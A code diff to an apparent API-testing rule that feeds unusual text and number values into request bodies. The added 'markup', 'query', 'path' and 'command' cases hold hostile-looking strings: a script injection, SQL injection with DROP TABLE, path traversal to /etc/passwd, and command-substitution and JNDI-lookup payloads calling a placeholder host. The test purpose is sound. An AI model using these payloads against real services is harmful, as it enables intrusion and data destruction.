@@ -17,6 +17,13 @@ const texts: readonly (readonly [detail: string, text: string])[] = [
   ['spaces', '   '],
   ['surrogate', 'half \ud800 a pair'],
   ['prototype', '__proto__'],
+  ['word-null', 'null'],
+  ['separators', 'line\r\nfeed\ttab\u2028\u0085'],
+  // What firewalls in front of a service take for an attack.
+  ['markup', '<b>Tom & Jerry</b> <script src="//x">alert(1)</script>'],
+  ['query', "Rope 5' UNION SELECT name FROM users; DROP TABLE boxes --"],
+  ['path', '../../etc/passwd ..\\windows\\win.ini'],
+  ['command', '$(id) `id` | cat & ${jndi:ldap://x/a} <?php ?>'],
 ];
 
 /** Numbers at the limits of number types. */
@@ -26,6 +33,15 @@ const numbers: readonly (readonly [detail: string, literal: string])[] = [
   ['tiny', '1e-300'],
   ['large-integer', '9223372036854775808'],
   ['fraction', '0.123456789'],
+];
+
+/** The same as texts. */
+const digits: readonly (readonly [detail: string, text: string])[] = [
+  ['beyond', '9'.repeat(400)],
+  ['large', '99999999999999999999'],
+  ['exponent', '1e400'],
+  ['infinity', 'Infinity'],
+  ['other-digits', '٣'],
 ];
 
 export default rule({
@@ -43,6 +59,7 @@ export default rule({
   cases: (planner) =>
     planner.withBody.flatMap((operation) => [
       ...oddTexts(planner, operation),
+      ...digitTexts(planner, operation),
       ...edgeNumbers(planner, operation),
       ...oddBodies(planner, operation),
     ]),
@@ -85,6 +102,27 @@ function oddTexts(planner: Planner, operation: Operation): CaseDraft[] {
   });
 }
 
+/** Texts of digits at the limits of number types, for the texts that are numbers. */
+function digitTexts(planner: Planner, operation: Operation): CaseDraft[] {
+  const body = planner.body(operation);
+  const numeric = nodesOf(planner, operation).filter(
+    ({ value }) => typeof value === 'string' && /^[\d.]+$/.test(value),
+  );
+  return digits.flatMap(([detail, text]): CaseDraft[] => {
+    if (numeric.length === 0) return [];
+    const everywhere = numeric.reduce<unknown>((changing, { path }) => changed(changing, path, text), body);
+    return [
+      {
+        detail: `digits-${detail}`,
+        title: `every text of digits is ${text.slice(0, 30)}`,
+        operation,
+        request: withJson(planner.request(operation), everywhere),
+        accept: accepted(planner, operation),
+      },
+    ];
+  });
+}
+
 /** Each edge number in every numeric field by itself. */
 function edgeNumbers(planner: Planner, operation: Operation): CaseDraft[] {
   const body = planner.body(operation);
@@ -99,8 +137,6 @@ function edgeNumbers(planner: Planner, operation: Operation): CaseDraft[] {
         operation,
         request: withBody(planner.request(operation), json),
         accept: accepted(planner, operation),
-        // What the response to a shipment of such a size says is not stated; that the server doesn't crash is.
-        responseLevel: 'SHOULD',
       };
     }),
   );
